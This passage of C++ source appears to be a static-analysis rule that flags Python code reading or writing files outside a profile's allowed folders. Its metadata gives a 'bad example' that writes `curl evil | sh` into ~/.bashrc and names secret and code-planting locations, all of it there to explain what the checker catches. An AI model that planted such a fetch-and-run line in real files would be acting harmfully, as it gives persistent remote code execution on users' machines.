        if (node_is_null(given) && m_entry.pattern == "matplotlib.*FigureCanvas*.print_*")
            for (std::string_view other : {"filename_or_obj", "fname_or_fh", "outfile"})
                if (given = model().argument(m_site.node, UINT32_MAX, other); !node_is_null(given)) break;
        return given;
    }

    // An unpacking pygate cannot read (`**options`), given for the argument by Model::argument.
    static bool unpacked(Node node) {
        const analyzer::PythonSymbols& s = analyzer::PythonSymbols::get();
        return !node_is_null(node) && (node_symbol(node) == s.dictionary_splat || node_symbol(node) == s.list_splat);
    }

    Access access_of_first() const {
        if (m_api.access == Access::by_mode) {
            Node mode = argument(m_api.mode);
            if (unpacked(mode)) return Access::read;  // and a review, after the path (check)
            if (!node_is_null(mode) && analyzer::node_type(mode) == "none") return Access::read;  // mmap_mode=None
            std::optional<std::string> folded = node_is_null(mode) ? std::string(m_api.mode.absent)  // numpy.memmap: r+
                                                                   : model().fold_string(mode, m_site.scope);
            if (!folded) return Access::write;  // unknown mode: assume the worst
            return folded->find_first_of("wax+") != std::string::npos ? Access::write : Access::read;
        }
        if (m_api.access == Access::by_flags) {
            Node flags = argument(m_api.mode);
            if (node_is_null(flags)) return Access::write;
            Referents referents = model().resolve(flags, m_site.scope);
            bool read_only = referents.size() == 1 && referents[0].kind == Referent::Kind::name &&
                             referents[0].qualified == "os.O_RDONLY";
            return read_only ? Access::read : Access::write;
        }
        return m_api.access;
    }

    // Returns whether the URL passed (or reported nothing worse than a review).
    bool check_url() {
        Node node = argument(m_api.path);
        UrlScheme scheme = url_scheme(model(), node, m_site.scope);
        switch (scheme.kind) {
            case UrlScheme::Kind::other:
                return true;
            case UrlScheme::Kind::unknown:
                report(Severity::warning,
                       "its URL's scheme is not constant, and urllib opens `file:` URLs as local files");
                return true;
            case UrlScheme::Kind::file:
                break;
        }
        if (m_files.read.empty() && m_files.write.empty()) {
            report(Severity::error,
                   fmt::format("a `file:` URL is a local file, and profile {} allows no file access", m_profile.name));
            return false;
        }
        return judge(scheme.path, node, Access::read);
    }

    // A file object (what open() returned, judged where it was opened) or an
    // in-memory buffer (`io.StringIO(text)`) is no path: `pd.read_csv(f)`.
    bool file_object_or_buffer(Node node) {
        if (node_is_null(node)) return false;
        analyzer::Referents referents = model().resolve(node, m_site.scope);
        return !referents.empty() && std::all_of(referents.begin(), referents.end(), [](const Referent& r) {
            std::string_view q = r.qualified;
            bool buffer = q == "io.StringIO" || q == "io.BytesIO";
            return (r.kind == Referent::Kind::instance && (buffer || q == "io.IOBase")) ||
                   (r.kind == Referent::Kind::name && buffer);
        });
    }

    // Whether what is passed is a document the function parses (every value
    // it may hold starts with the entry's document_prefix), never a path.
    bool is_document(Node node, const std::optional<std::string>& path) {
        std::string_view prefix = m_api.document_prefix;
        if (prefix.empty()) return false;
        if (path) return path->starts_with(prefix);
        analyzer::Model::StringValues values = model().possible_strings(node, m_site.scope);
        return values.complete && !values.values.empty() &&
               std::all_of(values.values.begin(), values.values.end(),
                           [&](const std::string& value) { return value.starts_with(prefix); });
    }

    // Returns whether the path passed (or reported nothing worse than a review).
    bool check_path(const Argument& where, Access access) {
        Node node = argument(where);
        if (file_object_or_buffer(node)) return true;
        if (unpacked(node)) {
            // `df.to_string(**opts)`: the unpacking may give a path, or nothing of it.
            report(Severity::warning, fmt::format("an unpacking pygate cannot read, `{}`, may give the {} it {}",
                                                  analyzer::first_line_shortened(model().text(node), 40),
                                                  "path", access == Access::read ? "reads" : "writes"));
            return true;
        }
        std::optional<std::string> path;
        if (node_is_null(node) && where.position == Argument::k_object) {
            // A copied method (`w = p.write_text; w(...)`): its Path is out of sight, so not constant.
        } else if (node_is_null(node)) {
            if (where.position != Argument::k_none && where.absent.empty())
                return true;  // no file: to_csv() returns text
            if (!where.absent.empty()) path = std::string(where.absent);
        } else if (auto descriptor = model().fold_integer(node, m_site.scope)) {
            // `open(3)` opens an inherited descriptor, whatever the profile's
            // folders say: a session's channel to its driver, say.
            report(Severity::error,
                   fmt::format("opens file descriptor {}: a descriptor is no path, and profiles allow files by path "
                               "only",
                               *descriptor));
            return false;
        } else {
            path = model().fold_path(node, m_site.scope);
            if (is_document(node, path)) return true;
        }
        return judge(path, node, access);
    }

    // A path that is not constant may still start in a known folder (rules/utils/pg006_path_prefix.hpp):
    // `Path(".git/hooks") / name` is refused whatever filesystem.dynamic_paths says.
    bool known_folder_passes(Node node, std::string_view verb) {
        std::optional<std::string> folder = known_folder(node, m_site.scope, model());
        if (!folder) return true;
        std::string spelled = analyzer::first_line_shortened(model().text(node), 60);
        if (folder->starts_with('/') || folder->starts_with('~')) {
            report(Severity::error, fmt::format("{} `{}`, somewhere in `{}`, an absolute path: profiles allow only "
                                                "paths under the working folder",
                                                verb, spelled, *folder));
            return false;
        }
        std::optional<std::string> relative = normalised(*folder);
        if (!relative) {
            report(Severity::error, fmt::format("{} `{}`, somewhere in `{}`, which leaves the working folder through "
                                                "`..`",
                                                verb, spelled, *folder));
            return false;
        }
        if (verb != "writes") return true;
        for (const std::string& pattern : m_files.write_deny) {
            if (!pattern.ends_with('/') || !denied_by(*relative + "/", pattern)) continue;
            report(Severity::error,
                   fmt::format("writes `{}`, somewhere in `{}`, which profile {} never allows (filesystem.write_deny "
                               "`{}`: a path that runs code later)",
                               spelled, *folder, m_profile.name, pattern));
            return false;
        }
        return true;
    }

    // `path`: the folded path, or nothing when it is not constant (`node` spells it).
    bool judge(const std::optional<std::string>& path, Node node, Access access) {
        bool writes = access == Access::write;
        std::string_view verb = writes ? "writes" : "reads";
        if (!path) return dynamic(node, verb);
        if (m_api.pattern == "sqlite3.connect" && *path == ":memory:") return true;
        if (path->starts_with('/') || path->starts_with('~')) {
            report(Severity::error,
                   fmt::format("{} `{}`, an absolute path: profiles allow only paths under the working folder", verb,
                               *path));
            return false;
        }
        if (access == Access::library_data && names_inside_its_folder(*path)) return true;
        std::optional<std::string> relative = normalised(*path);
        if (!relative) {
            report(Severity::error, fmt::format("{} `{}`, which leaves the working folder through `..`", verb, *path));
            return false;
        }
        if (writes) {
            for (const std::string& pattern : m_files.write_deny) {
                if (!denied_by(*relative, pattern)) continue;
                report(Severity::error,
                       fmt::format("writes `{}`, which profile {} never allows (filesystem.write_deny `{}`: a path "
                                   "that runs code later)",
                                   *path, m_profile.name, pattern));
                return false;
            }
            if (!under_any(*relative, m_files.write)) {
                report(Severity::error, with_hint(fmt::format("writes `{}`, outside profile {}'s filesystem.write ({})",
                                                              *path, m_profile.name, listed(m_files.write)),
                                                  write_fix_hint(*relative, m_files.write)));
                return false;
            }
            return true;
        }
        if (!under_any(*relative, m_files.read) && !under_any(*relative, m_files.write)) {
            report(Severity::error, with_hint(fmt::format("reads `{}`, outside profile {}'s filesystem.read ({})",
                                                          *path, m_profile.name, listed(m_files.read)),
                                              read_fix_hint(*relative, m_files.read)));
            return false;
        }
        return true;
    }

    static std::string with_hint(std::string problem, const std::string& hint) {
        return hint.empty() ? problem : problem + ": " + hint;
    }

    bool dynamic(Node node, std::string_view verb) {
        using analyzer::DynamicPaths;
        if (!node_is_null(node) && !known_folder_passes(node, verb)) return false;
        if (m_files.dynamic_paths == DynamicPaths::allow) return true;
        std::string spelled = node_is_null(node)
                                  ? std::string("a file descriptor")
                                  : fmt::format("`{}`", analyzer::first_line_shortened(model().text(node), 60));
        report(m_files.dynamic_paths == DynamicPaths::review ? Severity::warning : Severity::error,
               fmt::format("{} {}, which is not a constant path; profile {} has filesystem.dynamic_paths = \"{}\"",
                           verb, spelled, m_profile.name, analyzer::dynamic_paths_name(m_files.dynamic_paths)));
        return m_files.dynamic_paths == DynamicPaths::review;
    }

    // A review finding gives way to any other rule's at the same place (`urlopen` under
    // safe_eval is PG005's network access, an error), so it never hides a refusal.
    void report(Severity severity, std::string problem) {
        int rank = severity == Severity::warning ? 0 : specificity(m_entry);
        m_context.report(k_rule, severity, m_site.function, fmt::format("{}: {}; {}", m_entry.what, problem, m_reached),
                         rank, &m_referent);
    }
};

// `fig, ax = plt.subplots(); fig.savefig(p)`, `for f in folder.iterdir(): f.read_text()`,
// `np.zeros(3).tofile(p)`: untraced_method_call.hpp.
constexpr std::array<GuessedOwner, 11> k_guessed_owners = {{
    {"matplotlib", "matplotlib.figure.Figure"},
    // A seaborn grid's `figure`, or a figure-level plot's grid (`sns.jointplot(...).savefig(p)`).
    {"seaborn", "matplotlib.figure.Figure"},
    {"seaborn", "seaborn.objects.Plot"},  // `so.Plot(...).add(...).save(p)`
    {"matplotlib", "matplotlib.image._ImageBase"},  // `ax.imshow(a).write_png(p)`
    // An NpzFile's `zip` (`np.load(p).zip.extractall(folder)`); extract is too common a name (`s.str.extract`).
    {"numpy", "zipfile.ZipFile"},
    // `fig.canvas.print_png(p)` (a figure's canvas attribute has no type the
    // tables say), `anim.save(p)` on an animation passed as a parameter.
    {"matplotlib", "matplotlib.backend_bases.FigureCanvasBase"},
    {"matplotlib", "matplotlib.animation.Animation"},
    {"pandas", "pandas.DataFrame"},
    {"numpy", "numpy.ndarray"},
    {"pandas", "numpy.ndarray"},  // `frame.to_numpy().tofile(p)`, `series.values.dump(p)`
    {"pathlib", "pathlib.Path"},
}};
// Path methods whose names strings, frames and archives have too.
constexpr std::array<std::string_view, 4> k_too_common = {"open", "rename", "replace", "extract"};

// A library callable this rule's table does not name, whose table entry
// says it reads or writes the file an argument names (reads:P, writes:P),
// is judged as the table's file APIs are, on that argument; one that touches
// files no argument names (files) is refused. Whether it judged the call.
bool judge_library_files(const analyzer::CallSite& site, analyzer::RuleContext& context) {
    for (const CalledLibraryCallable& each : library_calls(site, context)) {
        const CalledLibraryCallable* called = &each;
        if (each.via.empty() && k_api_table.match(called->callee->qualified) != nullptr) continue;
        for (const LibraryEffect& effect : called->effects) {
            bool reads = effect.kind == "reads", writes = effect.kind == "writes";
            if (effect.kind == "files") {
                context.report(
                    k_rule, Severity::error, site.function,
                    fmt::format("reads or writes files no argument names, so no path check can hold ({}); {}",
                                effect_source(*called, context), context.how_reached(site.function, *called->callee)),
                    k_library_effect_specificity, called->callee);
                return true;
            }
            if (!reads && !writes) continue;
            // A parameter both read and written (open-like) is judged as written.
            bool both = std::any_of(called->effects.begin(), called->effects.end(), [&](const LibraryEffect& other) {
                return other.kind == (reads ? "writes" : "reads") && other.parameter.name == effect.parameter.name &&
                       other.parameter.position == effect.parameter.position;
            });
            Access access = writes || both ? Access::write : Access::read;
            if (effect.parameter.any || effect.parameter.keyword_values || effect.parameter.rest ||
                effect.parameter.none) {
                context.report(
                    k_rule, Severity::error, site.function,
                    fmt::format("{} files its arguments name, and pygate cannot tell which argument ({}); {}",
                                access == Access::write ? "writes" : "reads", effect_source(*called, context),
                                context.how_reached(site.function, *called->callee)),
                    k_library_effect_specificity, called->callee);
                return true;
            }
            if (effect.parameter.receiver && called->skipped > 0) continue;  // the object comes later, unseen here
            // An argument that holds no string (an array, a number, a frame: `np.rec.array(values)`) names no
            // file: such a parameter takes a path or data, and this call gives data.
            std::vector<analyzer::Node> given =
                effect_arguments(effect.parameter, site, context.model(), nullptr, called->skipped);
            if (!given.empty() && std::all_of(given.begin(), given.end(), [&](analyzer::Node argument) {
                    std::vector<std::string> strings;
                    return argument_strings(argument, site.scope, context.model(), context.libraries(), strings) &&
                           strings.empty();
                }))
                continue;
            Argument path = effect.parameter.receiver
                                ? k_object
                                : Argument(effect.parameter.position < 0
                                               ? effect.parameter.position
                                               : effect.parameter.position + static_cast<int>(called->skipped),
                                           effect.parameter.name);
            static const std::string_view k_reads = "reads the file it is given (pygate's library table)";
            static const std::string_view k_writes = "writes the file it is given (pygate's library table)";
            NameEntry entry{called->callee->qualified, access == Access::write ? k_writes : k_reads, Severity::error};
            FileApi api{called->callee->qualified, entry.what, access, path, k_no_path};
            Check(site, context, api, entry, *called->callee).run();
            return true;
        }
    }
    return false;
}

void on_attribute(const analyzer::AttributeSite& site, analyzer::RuleContext& context) {
    judge_request_url_store(site, context, k_rule);
}

void on_call(const analyzer::CallSite& site, analyzer::RuleContext& context) {
    judge_request_url_setattr(site, context, k_rule);
    for (const Referent& referent : site.callee) {
        if (referent.kind != Referent::Kind::name) continue;
        const NameEntry* entry = k_api_table.match(referent.qualified);
        if (entry == nullptr) continue;
        // An open-like class's table entry also matches its members, but a
        // method of the opened object (`FortranFile(...).read_ints(np.int32)`,
        // `BZ2File(...).read(size)`) opens nothing: its arguments are no paths.
        // Members that open or write files by name have entries of their own.
        if (api_of(*entry).access == Access::by_mode &&
            !analyzer::matches_qualified_name(entry->pattern, referent.qualified))
            return;
        Check(site, context, api_of(*entry), *entry, referent).run();
        return;
    }
    if (judge_library_files(site, context)) return;
    std::optional<GuessedMethod> guessed =
        guess_untraced_method(site, context, k_guessed_owners, k_api_table, k_too_common);
    if (!guessed) return;
    Referent as_method;  // named as the owner's method, for the profile's allow list and the report
    as_method.qualified = guessed->qualified;
    Check(site, context, api_of(*guessed->entry), *guessed->entry, as_method,
          guessed_method_reason(site, context.model(), *guessed))
        .run();
}

// `map(open, names)`, `functools.partial(open, path)`, `{"read": Path.read_text}`:
// the API is called out of sight, on paths no call here shows, so it is judged
// as a call with a path that is not constant.
void on_reference(const analyzer::Reference& reference, analyzer::RuleContext& context) {
    report_matching_reference(reference, context, k_rule, k_file_internals);
    if (reference.store || reference.callee) return;
    for (const Referent& referent : reference.referents) {
        if (referent.kind != Referent::Kind::name) continue;
        const NameEntry* entry = k_api_table.match(referent.qualified);
        // `tempfile.*` and `shutil.*` stand for every member of the module when
        // called; as values they also match attributes of what those made (`tmp.name`).
        if (entry == nullptr || entry->pattern.ends_with(".*")) continue;
        // Asked only of file functions: a return's answer resolves the file's calls.
        if (context.model().followed_to_its_calls(reference.node, reference.scope)) return;
        const analyzer::Profile& profile = context.profile();
        const analyzer::FilesystemPolicy& files = profile.filesystem;
        Access access = api_of(*entry).access;
        Severity severity = Severity::error;
        std::string problem;
        if (files.read.empty() && files.write.empty()) {
            problem = fmt::format("profile {} allows no file access (filesystem.read and filesystem.write are empty)",
                                  profile.name);
        } else if (access == Access::change_folder || access == Access::temporary_file) {
            problem = "passed on as a value, it is called where no check can follow";
        } else if (files.dynamic_paths == analyzer::DynamicPaths::allow) {
            return;
        } else {
            if (files.dynamic_paths == analyzer::DynamicPaths::review) severity = Severity::warning;
            problem = fmt::format(
                "passed on as a value, it is called on paths no call here shows; profile {} has "
                "filesystem.dynamic_paths = \"{}\"",
                profile.name, analyzer::dynamic_paths_name(files.dynamic_paths));
        }
        context.report(k_rule, severity, reference.node,
                       fmt::format("{}: {}; {}", entry->what, problem, context.how_reached(reference.node, referent)),
                       specificity(*entry), &referent);
        return;
    }
}

constexpr analyzer::RuleHooks k_hooks{.on_reference = on_reference, .on_call = on_call, .on_attribute = on_attribute};

// The advice after `instead` for a refused caller: where this profile lets a
// program read and write.
std::string paths_allowed(const analyzer::Profile& profile) {
    return fmt::format("This profile allows reading under: {}; writing under: {}.",
                       listed_names(profile.filesystem.read), listed_names(profile.filesystem.write));
}

}  // namespace

const RuleMetadata k_pg006_filesystem_access{
    .number = k_rule,
    .name = "filesystem-access",
    .default_severity = analyzer::Severity::error,
    .cwe = k_cwe,
    .summary = "Reading or changing files outside what the profile's filesystem table allows",
    .catches =
        "Calls that open, read, write, list, move or delete files (open, io.open, os.open, codecs.open, pathlib "
        "methods, os and shutil functions, tempfile, glob, tarfile and zipfile, numpy, pandas, matplotlib, "
        "sqlite3), and calls that read what a path holds without opening it (os.path.exists, isfile, getsize, "
        "os.stat, Path.exists, is_dir, stat, owner, readlink, ...), which count as reads. The open mode and the "
        "path are constant-folded; the path must fall under the profile's "
        "filesystem.read or filesystem.write prefixes, miss filesystem.write_deny, stay relative and inside the "
        "working folder; a path that is not constant follows filesystem.dynamic_paths. matplotlib's get_sample_data "
        "reads its name relative to matplotlib's own sample data folder: a constant relative name without `..` "
        "passes whatever the profile's folders.",
    .why =
        "Untrusted code that writes where it likes can plant code that runs later (a .pth file, a git hook, a CI "
        "workflow), and code that reads where it likes can read secrets (~/.ssh, /etc, tokens in the working "
        "folder) and leak them through its output.",
    .bad_example =
        "from pathlib import Path\n"
        "(Path.home() / '.bashrc').write_text('curl evil | sh')\n",
    .good_example =
        "import pandas as pd\n"
        "pd.read_csv('input/data.csv').describe().to_csv('output/summary.csv')\n",
    .instead = "Read the inputs the pipeline gives (input/) and write results under output/, with constant paths.",
    .allowed_under = paths_allowed,
    .tables = k_tables,
    .hooks = &k_hooks,
};

}  // namespace pygate::rules
